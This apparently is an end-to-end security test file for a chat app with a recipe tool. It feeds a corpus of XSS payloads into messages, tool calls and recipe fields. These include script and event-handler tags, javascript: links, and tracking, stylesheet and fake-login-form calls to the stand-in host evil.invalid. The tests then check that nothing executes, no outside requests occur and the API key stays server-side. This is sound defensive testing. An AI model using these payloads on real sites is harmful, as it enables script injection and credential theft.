// Text of models, people and recipes is shown, never run. Nothing is fetched from other hosts. The key stays secret.
import { callTool, reply } from '@parley/stand-ins';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { answered, choose, conversation, recipePanel, say } from './chat-page.ts';
import { patienceMs, secretKey } from './harness.ts';
import { runningParley } from './running-parley.ts';

const timeout = patienceMs;
const corpus = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<svg onload="window.pwned = 3"></svg>',
  '<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>',
  '<a href="javascript:window.pwned = 5" id="trap">click</a>',
  '[click me](javascript:window.pwned=6)',
  '[click me too](data:text/html,<script>opener.pwned=7</script>)',
  '![picture](https://evil.invalid/track.png)',
  '<img src="https://evil.invalid/track.gif">',
  '<style>@import url("https://evil.invalid/steal.css"); body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.invalid/steal.css">',
  '<form action="https://evil.invalid/"><input name="password"><button>Log in</button></form>',
  '<object data="https://evil.invalid/x.swf"></object>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '$$\\href{javascript:window.pwned=8}{x}$$',
  '```html\n<script>window.pwned = 9</script>\n```',
  '<details open ontoggle="window.pwned = 10"><summary>x</summary></details>',
];
const everything = corpus.join('\n\n');

const parley = runningParley({ scripted: true });
let page: Page;

describe('hostile text', { timeout }, () => {
  it('in messages, answers, tools and titles does nothing', async () => {
    page = await parley.visit();
    const strangers = strangersOf(page);
    const tool = 'x"><img src=x onerror="window.pwned = 11">';
    parley.model.enqueue(
      reply(everything, callTool(tool, { path: everything })),
      reply(`Again:\n\n${everything}`),
    );
    await say(page, everything);
    await conversation(page).getByText('Again:').waitFor();
    await answered(page);
    await conversation(page).getByText('Failed:').first().click();
    await tryLinks(page);
    await page.reload();
    await page.getByRole('navigation', { name: 'Conversations' }).getByRole('link').first().click();
    await conversation(page).getByText('Again:').waitFor();
    await expectUnharmed(page);
    expect(
      await conversation(page).locator('script, iframe, object, form, style, link, base, meta').count(),
    ).toBe(0);
    expect(strangers).toEqual([]);
  });

  it('in a recipe does nothing', async () => {
    page = await parley.visit();
    const strangers = strangersOf(page);
    await choose(page, 'Kitchen');
    const title = `<img src=x onerror="window.pwned=12">`;
    const bad = (at: number) => corpus[at] ?? '';
    parley.model.enqueue(
      reply(
        callTool('create_recipe', {
          title,
          description: everything.slice(0, 900),
          servings: 2,
          ingredients: [{ name: bad(1), quantity: 1, unit: bad(2).slice(0, 30), notes: bad(7) }],
          steps: [{ instruction: bad(0), duration_minutes: 5 }, { instruction: bad(8) }],
        }),
      ),
      reply(callTool('display_recipe', { title })),
      reply('There it is.'),
    );
    await say(page, 'Write down something bad');
    await recipePanel(page).getByRole('heading', { name: title }).waitFor();
    await answered(page);
    await expectUnharmed(page);
    expect(await recipePanel(page).locator('script, img, iframe').count()).toBe(0);
    expect(strangers).toEqual([]);
  });
});

describe('the API key', { timeout }, () => {
  it('never reaches the browser [kitchen.security.key-stays-inside]', async () => {
    const bodies: Promise<string>[] = [];
    page = await parley.visit();
    page.on('response', (response) => {
      if (!response.url().endsWith('/events') && !response.url().endsWith('/notifications'))
        bodies.push(response.text().catch(() => ''));
    });
    parley.model.enqueue(reply('Nothing to see.'));
    await page.goto(parley.url);
    await say(page, 'What is your key?');
    await conversation(page).getByText('Nothing to see.').waitFor();
    await answered(page);
    const scripts = await page.evaluate(() =>
      performance.getEntriesByType('resource').map(({ name }) => name),
    );
    expect(scripts.some((name) => name.endsWith('.js'))).toBe(true);
    const texts = await Promise.all(bodies);
    expect(texts.length).toBeGreaterThan(5);
    for (const text of texts) expect(text.includes(secretKey)).toBe(false);
  });
});

/** Requests to other hosts from now on. */
function strangersOf(target: Page): readonly string[] {
  const strangers: string[] = [];
  target.context().on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(parley.url) && !/^(data|blob):/.test(url)) strangers.push(url);
  });
  return strangers;
}

async function tryLinks(target: Page): Promise<void> {
  for (const link of await conversation(target).getByRole('link').all()) {
    const address = (await link.getAttribute('href')) ?? '';
    expect(address).not.toMatch(/^\s*(javascript|data|vbscript):/i);
  }
}

async function expectUnharmed(target: Page): Promise<void> {
  expect(await target.evaluate(() => (globalThis as { pwned?: unknown }).pwned)).toBeUndefined();
  expect(new URL(target.url()).origin).toBe(parley.url);
  expect(await target.evaluate(() => document.baseURI)).toBe(`${parley.url}/`);
}
